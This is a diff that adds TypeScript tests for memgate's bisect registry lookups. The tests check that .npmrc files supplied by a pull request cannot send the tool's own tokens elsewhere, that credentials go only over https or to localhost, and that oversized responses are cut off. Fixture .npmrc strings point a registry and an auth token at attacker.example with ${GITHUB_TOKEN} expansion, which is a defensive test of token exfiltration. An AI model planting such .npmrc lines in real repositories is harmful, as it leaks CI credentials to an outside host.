@@ -160,3 +160,59 @@ describe('fetchPublishedVersions', () => {
     )
   })
 })
+
+// memgate's own environment holds the token, and a PR can add an .npmrc: bisect's registry lookups
+// must send neither memgate's secrets nor anything to where the PR says.
+describe('the registry lookups and the PR', () => {
+  const env = { GITHUB_TOKEN: 'ghs_memgateOwnToken0123456789', NPM_TOKEN: 'npm_passedOnPurpose0123', HOME: '/nonexistent' }
+  const npmrc = (text: string) => [{ file: '.npmrc', kind: 'npmrc' as const, text }]
+
+  it('expand only the variables pass-env names', () => {
+    const config = resolveRegistryConfig(
+      npmrc(
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: npmrc's own ${VAR} syntax, not a template
+        'registry=https://attacker.example/x/${GITHUB_TOKEN}/\n//attacker.example/:_authToken=${GITHUB_TOKEN}\n//registry.example/:_authToken=${NPM_TOKEN}\n'
+      ),
+      env,
+      ['NPM_TOKEN']
+    )
+    expect(config.registry).toBe('https://attacker.example/x//')
+    expect(config.auth).toEqual({ '//registry.example/': 'Bearer npm_passedOnPurpose0123' })
+    expect(JSON.stringify(config)).not.toContain(env.GITHUB_TOKEN)
+  })
+
+  it('send a credential only over https, or to a registry on this machine', () => {
+    const config = resolveRegistryConfig(npmrc('//registry.example/:_authToken=tok-https\n//127.0.0.1:4873/:_authToken=tok-local\n'), {})
+    expect(authFor(config, 'https://registry.example/ms')).toBe('Bearer tok-https')
+    expect(authFor(config, 'http://registry.example/ms')).toBeUndefined()
+    expect(authFor(config, 'http://127.0.0.1:4873/ms')).toBe('Bearer tok-local')
+  })
+
+  it('read the configuration of the commit they are given, not the working tree', async () => {
+    const { loadRegistryConfigAt } = await import('../../../src/bisect/registry.js')
+    const { createGit, initRepo, commitAll } = await import('../../../src/git.js')
+    const dir = project({ '.npmrc': 'registry=https://base.example/\n' })
+    await initRepo(dir)
+    const base = await commitAll(dir, 'base')
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: npmrc's own ${VAR} syntax, not a template
+    fs.writeFileSync(path.join(dir, '.npmrc'), 'registry=https://attacker.example/${GITHUB_TOKEN}/\n')
+    const head = await commitAll(dir, 'head')
+    const git = await createGit(dir)
+    expect((await loadRegistryConfigAt(git, base, [''], 'npm', env, ['NPM_TOKEN'])).registry).toBe('https://base.example/')
+    // Without pass-env naming it, memgate's token is not expanded even from a file it reads.
+    expect((await loadRegistryConfigAt(git, head, [''], 'npm', env)).registry).toBe('https://attacker.example//')
+  })
+
+  it('stop reading an answer past its size limit', async () => {
+    const big = await recorder(() => ({ status: 200, body: { versions: { '1.0.0': {} }, pad: 'x'.repeat(4096) } }))
+    try {
+      const config = resolveRegistryConfig(npmrc(`registry=${big.url}\n`))
+      await expect(fetchPublishedVersions(config, 'row-cache', 1024)).rejects.toThrow(
+        `The registry ${big.url} sent more than 1024 bytes for row-cache`
+      )
+      expect(await fetchPublishedVersions(config, 'row-cache')).toEqual(['1.0.0'])
+    } finally {
+      await big.close()
+    }
+  })
+})
